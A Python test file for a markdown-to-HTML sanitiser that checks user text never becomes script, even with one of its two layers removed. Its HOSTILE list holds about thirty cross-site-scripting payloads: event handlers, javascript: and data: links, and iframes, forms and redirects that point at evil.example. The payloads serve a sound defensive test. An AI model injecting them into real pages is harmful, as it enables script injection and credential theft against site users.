"""What somebody types becomes no script, whichever of the two layers is taken away; with both gone it does."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from engagement.guidance import markdown
from engagement.guidance.markdown import TAGS, cleaned, html_of, marked_up

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">go</a>',
    "[go](javascript:alert(1))",
    "[go](JaVaScRiPt:alert(1))",
    "[go](&#106;avascript:alert(1))",
    "[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="data:text/html,<script>alert(1)</script>">go</a>',
    "[go](vbscript:msgbox(1))",
    "<p style=\"background:url('https://evil.example/x')\">hello</p>",
    "<style>body { display: none }</style>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    '<iframe src="https://evil.example"></iframe>',
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "![picture](https://evil.example/pixel.png)",
    "<details open ontoggle=alert(1)>x</details>",
    "<div onclick=alert(1) class=btn id=h-answer>x</div>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<!-- --><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<a href='https://evil.example' target=_self onclick=alert(1) style='color:red'>go</a>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| a | b |\n|:-:|---|\n| <script>alert(1)</script> | ![x](https://evil.example/x.png) |",
)


class _Seen(HTMLParser):
    """What is dangerous in a page: tags off the list, attributes that run or load, schemes of links."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name not in {"href", "title", "rel", "start"} and (tag, name, value) != ("table", "class", "tbl"):
                self.wrong.append(f"{tag} {name}")
            if name == "href" and not re.match(r"(https?:|mailto:|[/?#])", (value or "").strip(), re.IGNORECASE):
                self.wrong.append(f"{tag} to {value}")


def dangers(html: str) -> list[str]:
    seen = _Seen()
    seen.feed(html)
    seen.close()
    return seen.wrong


@pytest.fixture
def through_markup(monkeypatch: pytest.MonkeyPatch) -> None:
    """Markdown that lets mark-up through and believes every address: the first layer taken away."""
    reader = MarkdownIt("commonmark", {"html": True}).enable("table")
    monkeypatch.setattr(reader, "validateLink", lambda url: len(url) >= 0)
    monkeypatch.setattr(markdown, "_READER", reader)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_gets_through(text: str) -> None:
    assert dangers(str(html_of(text))) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_the_cleaner_alone_is_enough(text: str, through_markup: None) -> None:
    assert dangers(cleaned(marked_up(text))) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_the_reader_alone_lets_nothing_run(text: str) -> None:
    """Without the cleaner mark-up is still text; all it lets through is a table's style, which the policy refuses."""
    assert [wrong for wrong in dangers(marked_up(text)) if not re.fullmatch(r"t[hd] style", wrong)] == []


def test_control_without_both_layers_it_does(through_markup: None) -> None:
    harmless = [text for text in HOSTILE if not dangers(marked_up(text))]
    assert harmless == ["```\n</code></pre><script>alert(1)</script>\n```"]  # code is text in any reader


@given(st.text(alphabet=st.sampled_from("<>/\"'=&;:()[]!#*_`|\n aehijlonprstvcxgm-"), max_size=120))
def test_whatever_is_typed_nothing_hostile_gets_through(text: str) -> None:
    assert dangers(cleaned(marked_up(text))) == []


def test_what_people_write_is_shown() -> None:
    html = str(
        html_of("# Head\n\nOne **bold** [link](https://example.com).\n\n- item\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    )
    assert "<h3>Head</h3>" in html  # below the page's own headings
    assert '<a href="https://example.com" rel="noopener noreferrer nofollow">link</a>' in html
    assert "<strong>bold</strong>" in html
    assert "<li>item</li>" in html
    assert '<table class="tbl">' in html
    assert "<td>2</td>" in html


def test_a_picture_is_a_link_to_it_and_is_not_loaded() -> None:
    html: Any = str(html_of("![plan](https://example.com/plan.png)"))
    assert "<img" not in html
    assert 'href="https://example.com/plan.png"' in html
